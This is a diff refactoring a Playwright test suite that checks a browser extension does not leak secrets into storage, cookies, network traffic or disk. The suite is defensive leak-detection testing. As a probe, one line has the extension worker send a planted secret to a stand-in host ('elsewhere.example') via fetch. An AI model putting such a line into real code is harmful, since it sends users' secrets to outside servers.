@@ -1,12 +1,8 @@
-import { mkdtemp, rm } from 'node:fs/promises';
-import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { type CDPSession, expect, type Page, test } from '@playwright/test';
-import { createServer, type DevServer } from '../../dev-server/create-server';
 import { mintSecret } from '../../dev-server/secret';
 import { launchWithExtension, readClipboard, type Session } from '../../scripts/launch';
 import { signIn } from '../../scripts/sign-in';
-import { type Heard, httpsFront } from '../e2e/https-front';
 import { endWorker } from '../e2e/worker';
 import { findSecret } from '../leak-scan';
 import { type Channel, pageChannels } from './channels';
@@ -14,7 +10,6 @@ import {
   diagnosticsOf,
   exportsOf,
   goOn,
-  homeIn,
   leaksIn,
   networkOf,
   type Person,
@@ -22,34 +17,25 @@ import {
   secretsOf,
   useSecret,
 } from './leaks';
+import { openPlace, type Place } from './place';
 
 const HERE = 'https://dev.azure.com/fabrikam';
 
-let folder: string;
-let server: DevServer;
-let front: Awaited<ReturnType<typeof httpsFront>>;
-let heard: Heard[];
+let place: Place;
 
 test.beforeEach(async () => {
-  folder = await mkdtemp(path.join(tmpdir(), 'patina-leaks-'));
-  server = await createServer();
-  heard = [];
-  front = await httpsFront({ behind: server.url, heard: (request) => void heard.push(request) });
+  place = await openPlace();
 });
 
-test.afterEach(async () => {
-  await front.close();
-  await server.close();
-  await rm(folder, { recursive: true, force: true, maxRetries: 5 });
-});
+test.afterEach(() => place.close());
 
 async function launch() {
   return await launchWithExtension({
     extension: 'dist/chrome',
-    port: front.port,
+    port: place.port,
     headless: true,
     everywhere: true,
-    ...(await homeIn(folder)),
+    ...place.home,
   });
 }
 
@@ -72,7 +58,7 @@ function personAt(session: Session, page: Page, told: string[]): Person {
       .reduce((all, each) => all.or(each))
       .first();
   };
-  const downloads = path.join(folder, 'downloads');
+  const downloads = path.join(place.folder, 'downloads');
   page.on('download', (download) => void download.saveAs(path.join(downloads, download.suggestedFilename())));
   return {
     evaluate: (script, ...given) => page.evaluate(`(async (...given) => { ${script} })(...${JSON.stringify(given)})`),
@@ -123,7 +109,7 @@ async function openFor(session: Session) {
       read: async () => JSON.stringify(await session.context.cookies()),
       plant: (value) => session.context.addCookies([{ name: 'leak', value, url: HERE }]),
     },
-    networkOf(heard, (text) =>
+    networkOf(place.heard, (text) =>
       session.worker.evaluate((leak) => fetch(`https://elsewhere.example/?${leak}`).catch(() => undefined), text),
     ),
     {
@@ -161,34 +147,35 @@ async function openFor(session: Session) {
 test('Chromium: a secret is nowhere but where it belongs, and a planted one is found everywhere', async () => {
   const session = await launch();
   const { person, page, onScreen, others, told } = await openFor(session);
-  await useSecret(person, server, onScreen);
+  await useSecret(person, place.server, onScreen);
   const lasting = others.filter(({ name }) => !['storage.session', 'clipboard'].includes(name));
-  expect(await leaksIn(lasting, secretsOf(server)), 'while it waits to be taken').toEqual([]);
+  expect(await leaksIn(lasting, secretsOf(place.server)), 'while it waits to be taken').toEqual([]);
   expect(told.join(), 'notifications are heard').toContain('fabrikam');
   await session.worker.evaluate(HEAR_NOTIFICATIONS);
-  await goOn(person, server);
+  await goOn(person, place.server);
   const all = [...onScreen, ...others];
-  expect(await leaksIn(all, secretsOf(server)), 'when everything is done').toEqual([]);
+  expect(await leaksIn(all, secretsOf(place.server)), 'when everything is done').toEqual([]);
   const planted = await plantEverywhere([...onScreen, ...others]);
   const inHistory = mintSecret(Date.now());
   await page.goto(`${HERE}?${inHistory}`);
   await session.close();
-  for (const secret of secretsOf(server)) expect(findSecret(folder, secret), 'after it was closed').toEqual([]);
+  for (const secret of secretsOf(place.server))
+    expect(findSecret(place.folder, secret), 'after it was closed').toEqual([]);
   for (const name of ['storage.local', 'IndexedDB', 'Cache Storage', 'localStorage'])
-    expect(findSecret(folder, planted.get(name) ?? ''), `${name} on the disk`).not.toEqual([]);
-  expect(findSecret(folder, inHistory).join(' '), 'the history on the disk').toContain('History');
+    expect(findSecret(place.folder, planted.get(name) ?? ''), `${name} on the disk`).not.toEqual([]);
+  expect(findSecret(place.folder, inHistory).join(' '), 'the history on the disk').toContain('History');
 });
 
 test('Chromium: nor after the browser was killed while a secret waits to be taken', async () => {
   const session = await launch();
   const { person, onScreen } = await openFor(session);
-  await useSecret(person, server, onScreen);
+  await useSecret(person, place.server, onScreen);
   const leak = mintSecret(Date.now());
   await person.evaluate('await chrome.storage.local.set({ leak: given[0] })', leak);
-  await expect.poll(() => findSecret(folder, leak), 'a planted one is on the disk').not.toEqual([]);
+  await expect.poll(() => findSecret(place.folder, leak), 'a planted one is on the disk').not.toEqual([]);
   const browser = await session.context.browser()?.newBrowserCDPSession();
   const { processInfo = [] } = (await browser?.send('SystemInfo.getProcessInfo')) ?? {};
   process.kill(processInfo.find(({ type }) => type === 'browser')?.id ?? Number.NaN, 'SIGKILL');
   await session.closed;
-  for (const secret of secretsOf(server)) expect(findSecret(folder, secret)).toEqual([]);
+  for (const secret of secretsOf(place.server)) expect(findSecret(place.folder, secret)).toEqual([]);
 });
